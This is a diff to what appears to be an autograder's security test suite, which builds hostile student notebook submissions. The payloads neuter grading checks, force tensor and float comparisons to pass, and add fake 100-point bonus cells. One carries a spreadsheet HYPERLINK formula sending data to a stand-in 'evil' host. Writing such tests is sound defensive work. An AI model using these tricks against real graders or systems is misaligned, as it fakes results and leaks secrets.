@@ -64,6 +64,11 @@ class Class:
         self.lesson_solved = solved_copy(self.lesson_release, nbformat.read(course.solutions_dir / f"{LESSON}.ipynb",
                                                                             as_version=4))
         self.expected = {}  # student -> (assignment, score, statuses that must appear)
+        self.lesson_points = {c.metadata["nbgrader"]["grade_id"]: c.metadata["nbgrader"]["points"]
+                              for c in self.lesson_release.cells if c.metadata.get("nbgrader", {}).get("grade")}
+        self.lesson_max = sum(self.lesson_points.values())
+        # the honest mistake below costs exactly the attention-mass exercise
+        self.lesson_mistake = self.lesson_max - self.lesson_points["test_attention_mass"]
 
     def wrong(self, q):
         return next(letter for letter in LETTERS if letter != q.answer)
@@ -111,8 +116,8 @@ def _attacks(c: Class, outside: Path) -> None:
     c.add("hon_five", "quiz", c.quiz(5), 5)
     c.add("zz_victim", "quiz", c.quiz(8), 8)
     c.add("zy_victim", "quiz", c.quiz(8), 8)
-    c.add("hon_lesson", LESSON, c.lesson(), 3)
-    c.add("hon_mistake", LESSON, c.lesson(wrong_mass=True), 2)
+    c.add("hon_lesson", LESSON, c.lesson(), c.lesson_max)
+    c.add("hon_mistake", LESSON, c.lesson(wrong_mass=True), c.lesson_mistake)
     # --- 1. other students' grades and later runs ---------------------------------------------------
     c.add("a_rewrite", "quiz", c.inject(c.quiz(5), f"""
 import os, pathlib
@@ -214,7 +219,7 @@ builtins.str = _Any
 import attnlab.checks as _c
 _c.check = _c.check_tensor = _c.passed = _c.record = lambda *a, **k: None
 check = check_tensor = passed = record = _c.check
-"""), 2)
+"""), c.lesson_mistake)
     c.add("f_isclose", LESSON, c.inject(c.lesson(wrong_mass=True), """
 import torch
 torch.isclose = lambda *a, **k: torch.ones((), dtype=torch.bool)
@@ -222,7 +227,16 @@ torch.allclose = lambda *a, **k: True
 class _F(float):
     __eq__ = __lt__ = __gt__ = __le__ = __ge__ = lambda self, other: True
     __ne__ = lambda self, other: False
-"""), 2)
+"""), c.lesson_mistake)
+    duplicated = c.quiz(5)
+    fake = copy.deepcopy(_cell(duplicated, "q8"))
+    fake.source = "pass  # a test cell of my own"
+    bonus = copy.deepcopy(fake)
+    bonus.metadata["nbgrader"] = dict(bonus.metadata["nbgrader"], grade_id="bonus", points=100)
+    duplicated.cells[2:2] = [copy.deepcopy(fake) for _ in range(5)] + [bonus]
+    for n, cell in enumerate(duplicated.cells):
+        cell.id = f"cell-{n}"
+    c.add("f_duplicates", "quiz", duplicated, 5)
     # --- 3. leaks -------------------------------------------------------------------------------------
     c.add("l_leak", LESSON, c.inject(c.lesson(), f"""
 import os, pathlib
@@ -248,13 +262,13 @@ print(_secrets())
 class Leak(Exception):
     pass
 Leak.__name__ = Leak.__qualname__ = '=HYPERLINK("http://evil/"&A1,"x")'
-""", after=None), 3)
+""", after=None), c.lesson_max)
     leak = c.folder / "l_leak" / LESSON / f"{LESSON}.ipynb"
     nb = nbformat.read(leak, as_version=4)
     cell = _cell(nb, "ex_flip_rate")
     cell.source = cell.source.replace("    with torch.no_grad():", "    raise Leak(_secrets())\n    with torch.no_grad():", 1)
     nbformat.write(nb, leak)
-    c.expected["l_leak"] = (LESSON, 1, set())
+    c.expected["l_leak"] = (LESSON, c.lesson_max - c.lesson_points["test_flip_rate"], set())
     # --- 4. one submission ends the batch -----------------------------------------------------------
     c.add("b_nested", "quiz", b"[" * 5000, 0, {"not_json"})
     raw = c.quiz(8)
